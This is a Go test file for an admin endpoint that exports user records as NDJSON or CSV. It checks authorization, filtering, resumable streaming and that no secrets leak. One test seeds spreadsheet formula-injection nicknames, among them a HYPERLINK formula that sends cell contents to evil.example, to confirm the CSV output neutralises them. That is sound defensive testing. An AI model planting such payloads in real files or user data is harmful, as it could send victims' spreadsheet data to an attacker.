package app_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/wxid/wxid/ent"
	"github.com/wxid/wxid/ent/auditevent"
	"github.com/wxid/wxid/ent/openid"
	"github.com/wxid/wxid/internal/apptest"
	"github.com/wxid/wxid/segment"
)

// Segment exports: POST /admin/export/users (package segment).

// postExport sends an export request; the caller reads and closes the
// body.
func postExport(t testing.TB, e *apptest.Env, token string, body any) *http.Response {
	t.Helper()
	raw, err := json.Marshal(body)
	require.NoError(t, err)
	req, err := http.NewRequest(http.MethodPost, e.Server.URL+segment.Path, bytes.NewReader(raw))
	require.NoError(t, err)
	req.Header.Set("Content-Type", "application/json")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := e.Server.Client().Do(req)
	require.NoError(t, err)
	return resp
}

// exportEnd is the last line of an NDJSON export.
type exportEnd struct {
	Count    int    `json:"count"`
	Complete bool   `json:"complete"`
	After    string `json:"after"`
	Error    *struct {
		Message    string         `json:"message"`
		Extensions map[string]any `json:"extensions"`
	} `json:"error"`
}

// readNDJSON reads an NDJSON export to its end: the rows' ids and the end
// line (nil when the stream has none).
func readNDJSON(t testing.TB, r io.Reader) ([]string, *exportEnd) {
	t.Helper()
	var ids []string
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 64<<10), 1<<20)
	for sc.Scan() {
		var line struct {
			ID  string     `json:"id"`
			End *exportEnd `json:"end"`
		}
		require.NoError(t, json.Unmarshal(sc.Bytes(), &line), sc.Text())
		if line.End != nil {
			require.False(t, sc.Scan(), "nothing follows the end line")
			return ids, line.End
		}
		require.NotEmpty(t, line.ID)
		ids = append(ids, line.ID)
	}
	require.NoError(t, sc.Err())
	return ids, nil
}

// exportIDs exports a where as NDJSON and returns the ids, checking that
// the export says it is complete.
func exportIDs(t testing.TB, e *apptest.Env, body map[string]any) []string {
	t.Helper()
	resp := postExport(t, e, apptest.AdminToken, body)
	defer resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.Equal(t, "application/x-ndjson; charset=utf-8", resp.Header.Get("Content-Type"))
	ids, end := readNDJSON(t, resp.Body)
	require.NotNil(t, end)
	require.True(t, end.Complete)
	require.Equal(t, len(ids), end.Count)
	require.Equal(t, "true", resp.Trailer.Get(segment.TrailerComplete))
	require.Equal(t, strconv.Itoa(len(ids)), resp.Trailer.Get(segment.TrailerCount))
	return ids
}

// TestExportRefusals: what is not exported is a coded JSON error before
// any row: the same `where` shapes the users query refuses, the same
// authorization.
func TestExportRefusals(t *testing.T) {
	apptest.EachBackend(t, func(t *testing.T, backend string) {
		e := apptest.New(t, apptest.Options{Backend: backend})
		alice := e.Login(t, "", "alice")
		cases := []struct {
			name   string
			token  string
			body   any
			status int
			code   string
		}{
			{"no token", "", map[string]any{}, http.StatusForbidden, "FORBIDDEN"},
			{"an skey", alice.Skey, map[string]any{}, http.StatusForbidden, "FORBIDDEN"},
			{"a wrong token", "not-an-admin-token-at-all", map[string]any{}, http.StatusForbidden, "FORBIDDEN"},
			{"not an object", apptest.AdminToken, "csv", http.StatusBadRequest, "BAD_USER_INPUT"},
			{"an unknown member", apptest.AdminToken, map[string]any{"filter": map[string]any{}}, http.StatusBadRequest, "BAD_USER_INPUT"},
			{"an unknown format", apptest.AdminToken, map[string]any{"format": "xlsx"}, http.StatusBadRequest, "BAD_USER_INPUT"},
			{"a bad after", apptest.AdminToken, map[string]any{"after": "abc"}, http.StatusBadRequest, "BAD_USER_INPUT"},
			{"a negative after", apptest.AdminToken, map[string]any{"after": -1}, http.StatusBadRequest, "BAD_USER_INPUT"},
			{"an unknown where field", apptest.AdminToken, map[string]any{"where": map[string]any{"nicknameContains": "a"}}, http.StatusBadRequest, "BAD_USER_INPUT"},
			{"a malformed time", apptest.AdminToken, map[string]any{"where": map[string]any{"createdAtGT": "yesterday"}}, http.StatusBadRequest, "BAD_USER_INPUT"},
			{"a short phoneNumberEndsWith", apptest.AdminToken, map[string]any{"where": map[string]any{"phoneNumberEndsWith": "12"}}, http.StatusBadRequest, "BAD_USER_INPUT"},
		}
		for _, tc := range cases {
			t.Run(tc.name, func(t *testing.T) {
				resp := postExport(t, e, tc.token, tc.body)
				requireRefused(t, resp, tc.status, tc.code)
			})
		}
		t.Run("GET", func(t *testing.T) {
			resp, err := e.Server.Client().Get(e.Server.URL + segment.Path)
			require.NoError(t, err)
			require.Equal(t, "POST", resp.Header.Get("Allow"))
			requireRefused(t, resp, http.StatusMethodNotAllowed, "BAD_REQUEST")
		})
		t.Run("not JSON", func(t *testing.T) {
			req, err := http.NewRequest(http.MethodPost, e.Server.URL+segment.Path, strings.NewReader("{"))
			require.NoError(t, err)
			req.Header.Set("Content-Type", "application/json")
			req.Header.Set("Authorization", "Bearer "+apptest.AdminToken)
			resp, err := e.Server.Client().Do(req)
			require.NoError(t, err)
			requireRefused(t, resp, http.StatusBadRequest, "BAD_REQUEST")
		})
		// Every shape the users query refuses up front, refused here with
		// the same message.
		for _, where := range []map[string]any{
			{"phoneNumberContains": "8000"},
			{"hasOpenIdsWith": []any{map[string]any{"hasUserWith": []any{map[string]any{"hasOpenIds": true}}}}},
			{"or": []any{map[string]any{"disabled": true}, map[string]any{"hasUnionID": true}}},
			{"not": map[string]any{"not": map[string]any{"not": map[string]any{"not": map[string]any{"disabled": true}}}}},
		} {
			r := e.Do(t, apptest.AdminToken, usersQuery, map[string]any{"first": 1, "where": where})
			require.Equal(t, "BAD_USER_INPUT", r.Code(), r.Body)
			resp := postExport(t, e, apptest.AdminToken, map[string]any{"where": where})
			body := requireRefused(t, resp, http.StatusBadRequest, "BAD_USER_INPUT")
			require.Contains(t, body, r.Errors[0].Message)
		}
	})
}

// requireRefused checks a refusal: status, a JSON body with one coded
// error, no stream. It returns the body.
func requireRefused(t *testing.T, resp *http.Response, status int, code string) string {
	t.Helper()
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	require.Equal(t, status, resp.StatusCode, string(raw))
	require.True(t, strings.HasPrefix(resp.Header.Get("Content-Type"), "application/json"), resp.Header.Get("Content-Type"))
	var out apptest.Response
	require.NoError(t, json.Unmarshal(raw, &out), string(raw))
	require.Len(t, out.Errors, 1, string(raw))
	require.Equal(t, code, out.Code(), string(raw))
	require.Empty(t, resp.Header.Get("Trailer"))
	return string(raw)
}

// TestExportSameUsersAsUsersQuery: an export of a `where` holds exactly the
// users the users query pages through for it, in id order, in both
// formats; a row shows the admin view of the user and no secret.
func TestExportSameUsersAsUsersQuery(t *testing.T) {
	apptest.EachBackend(t, func(t *testing.T, backend string) {
		e := apptest.New(t, apptest.Options{Backend: backend})
		base := time.Date(2025, 3, 1, 0, 0, 0, 0, time.UTC)
		all := seedUsers(t, e, 260, base)
		seedIdentities(t, e, all[:200], func(i int) bool { return i%3 == 0 })
		ctx := context.Background()
		for i, u := range all {
			upd := e.App.DB.Client.User.UpdateOneID(u.ID)
			if i%11 == 0 {
				upd.SetDisabled(true)
			}
			if i%4 == 0 {
				upd.SetPhoneNumber(fmt.Sprintf("+86138%08d", i))
			}
			require.NoError(t, upd.Exec(ctx))
		}
		alice := e.Login(t, "", "alice") // a real login: a sealed session_key and a session
		wheres := []map[string]any{
			nil,
			{"disabled": true},
			{"hasOpenIdsWith": []any{map[string]any{"appid": apptest.AppID2}}},
			{"hasUnionID": true, "disabled": false},
			{"createdAtGTE": base.Add(20 * time.Second).Format(time.RFC3339), "createdAtLT": base.Add(50 * time.Second).Format(time.RFC3339)},
			{"phoneNumberEndsWith": "0040"},
			{"idIn": []string{gqlID(all[7].ID), gqlID(all[250].ID), alice.User.ID}},
			{"or": []any{map[string]any{"phoneNumberHasPrefix": "+86138000001"}, map[string]any{"disabled": true}}},
		}
		for i, where := range wheres {
			want := walkForward(t, e, map[string]any{"where": where}, 100)
			got := exportIDs(t, e, map[string]any{"where": where})
			require.Equal(t, orNone(want), orNone(got), "where %d: %v", i, where)
		}
		// CSV: the same users.
		resp := postExport(t, e, apptest.AdminToken, map[string]any{"format": "csv", "where": wheres[2]})
		records := readCSV(t, resp)
		require.Equal(t, "true", resp.Trailer.Get(segment.TrailerComplete))
		var csvIDs []string
		for _, r := range records[1:] {
			csvIDs = append(csvIDs, r[0])
		}
		require.Equal(t, walkForward(t, e, map[string]any{"where": wheres[2]}, 100), csvIDs)

		// Alice's row: her identities, none of her secrets.
		resp = postExport(t, e, apptest.AdminToken, map[string]any{"where": map[string]any{"id": alice.User.ID}})
		raw, err := io.ReadAll(resp.Body)
		require.NoError(t, err)
		resp.Body.Close()
		require.Contains(t, string(raw), alice.OpenID)
		require.Contains(t, string(raw), *alice.UnionID)
		oid, err := e.App.DB.Client.OpenID.Query().Where(openid.Openid(alice.OpenID)).Only(ctx)
		require.NoError(t, err)
		require.NotContains(t, string(raw), string(oid.SessionKey))
		for _, secret := range []string{alice.Skey, "session_key", "sessionKey", "skey", "hash"} {
			require.NotContains(t, string(raw), secret)
		}
	})
}

func orNone(ids []string) []string {
	if ids == nil {
		return []string{}
	}
	return ids
}

// readCSV reads a whole CSV export, strictly, and returns its records.
func readCSV(t testing.TB, resp *http.Response) [][]string {
	t.Helper()
	defer resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.Equal(t, "text/csv; charset=utf-8; header=present", resp.Header.Get("Content-Type"))
	records, err := csv.NewReader(resp.Body).ReadAll()
	require.NoError(t, err)
	require.NotEmpty(t, records)
	return records
}

// TestExportHostileNicknames: nicknames written to attack a spreadsheet
// come out of a CSV export as text, and exactly as chosen in NDJSON.
func TestExportHostileNicknames(t *testing.T) {
	e := apptest.New(t, apptest.Options{})
	ctx := context.Background()
	nicks := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `+SUM(1,1)`, `-1+1`, `@cmd`, "\t=1", `a,"b"` + "\n" + `c`, `小明`}
	for _, n := range nicks {
		require.NoError(t, e.App.DB.Client.User.Create().SetNickname(n).Exec(ctx))
	}
	records := readCSV(t, postExport(t, e, apptest.AdminToken, map[string]any{"format": "csv"}))
	require.Len(t, records, len(nicks)+1)
	col := slices.Index(records[0], "nickname")
	for i, n := range nicks {
		cell := records[i+1][col]
		require.NotContains(t, "=+-@\t\r", cell[:1], "cell %q", cell)
		require.Equal(t, n, strings.TrimPrefix(cell, "'"))
	}
	resp := postExport(t, e, apptest.AdminToken, map[string]any{})
	defer resp.Body.Close()
	sc := bufio.NewScanner(resp.Body)
	for _, n := range nicks {
		require.True(t, sc.Scan())
		var row struct{ Nickname string }
		require.NoError(t, json.Unmarshal(sc.Bytes(), &row))
		require.Equal(t, n, row.Nickname)
	}
}

// TestExportResumeWhileInserting: a client cut mid-stream resumes with the
// last id it received and gets exactly the rest, while users are being
// created: no user is missed or sent twice, every user that existed
// before the export started is in it, and so is every user created
// before the resumed request.
func TestExportResumeWhileInserting(t *testing.T) {
	e := apptest.New(t, apptest.Options{Backend: apptest.MySQL})
	ctx := context.Background()
	seeded := seedUsers(t, e, 3000, time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC))

	var mu sync.Mutex
	var created []int
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			select {
			case <-stop:
				return
			default:
			}
			u, err := e.App.DB.Client.User.Create().Save(ctx)
			if err != nil {
				return
			}
			mu.Lock()
			created = append(created, u.ID)
			mu.Unlock()
		}
	}()
	defer func() { close(stop); <-done }()

	// The first request: read 1,234 rows, then hang up.
	resp := postExport(t, e, apptest.AdminToken, map[string]any{"format": "ndjson"})
	require.Equal(t, http.StatusOK, resp.StatusCode)
	sc := bufio.NewScanner(resp.Body)
	var got []int
	for len(got) < 1234 && sc.Scan() {
		var row struct{ ID string }
		require.NoError(t, json.Unmarshal(sc.Bytes(), &row))
		id, err := strconv.Atoi(row.ID)
		require.NoError(t, err)
		got = append(got, id)
	}
	require.Len(t, got, 1234)
	resp.Body.Close()

	mu.Lock()
	createdBefore := slices.Clone(created)
	mu.Unlock()
	ids, end := readNDJSON(t, postExportBody(t, e, map[string]any{"after": strconv.Itoa(got[len(got)-1])}))
	require.NotNil(t, end, "the resumed export reached its end")
	require.True(t, end.Complete)
	require.Equal(t, len(ids), end.Count)
	for _, s := range ids {
		id, err := strconv.Atoi(s)
		require.NoError(t, err)
		got = append(got, id)
	}
	require.True(t, slices.IsSorted(got), "id order")
	require.Equal(t, len(got), len(slices.Compact(slices.Clone(got))), "no user twice")
	for _, u := range seeded {
		_, found := slices.BinarySearch(got, u.ID)
		require.True(t, found, "user %d existed before the export", u.ID)
	}
	for _, id := range createdBefore {
		_, found := slices.BinarySearch(got, id)
		require.True(t, found, "user %d was created before the resumed request", id)
	}
	require.Greater(t, len(createdBefore), 0, "users were being created")
}

// postExportBody posts an admin export and returns its body, checking
// the status.
func postExportBody(t testing.TB, e *apptest.Env, body map[string]any) io.Reader {
	t.Helper()
	resp := postExport(t, e, apptest.AdminToken, body)
	t.Cleanup(func() { resp.Body.Close() })
	require.Equal(t, http.StatusOK, resp.StatusCode)
	return resp.Body
}

// seedLargeUsers creates n users whose rows are large (an avatar URL of
// 1,000 bytes): n of them are many times the socket buffers.
func seedLargeUsers(t testing.TB, e *apptest.Env, n int) {
	t.Helper()
	ctx := context.Background()
	avatar := "https://cdn.example/" + strings.Repeat("a", 980)
	phone := "+8613800138000"
	for start := 0; start < n; start += 500 {
		batch := make([]*ent.UserCreate, 0, 500)
		for range min(500, n-start) {
			batch = append(batch, e.App.DB.Client.User.Create().SetAvatarURL(avatar).SetPhoneNumber(phone))
		}
		require.NoError(t, e.App.DB.Client.User.CreateBulk(batch...).Exec(ctx))
	}
}

// exportEvents returns the DATA_EXPORTED events of segment exports.
func exportEvents(t testing.TB, e *apptest.Env) []*ent.AuditEvent {
	t.Helper()
	evs, err := e.App.DB.Client.AuditEvent.Query().
		Where(auditevent.KindEQ(auditevent.KindDATA_EXPORTED), auditevent.UserIDIsNil()).
		Order(auditevent.ByID()).All(context.Background())
	require.NoError(t, err)
	return evs
}
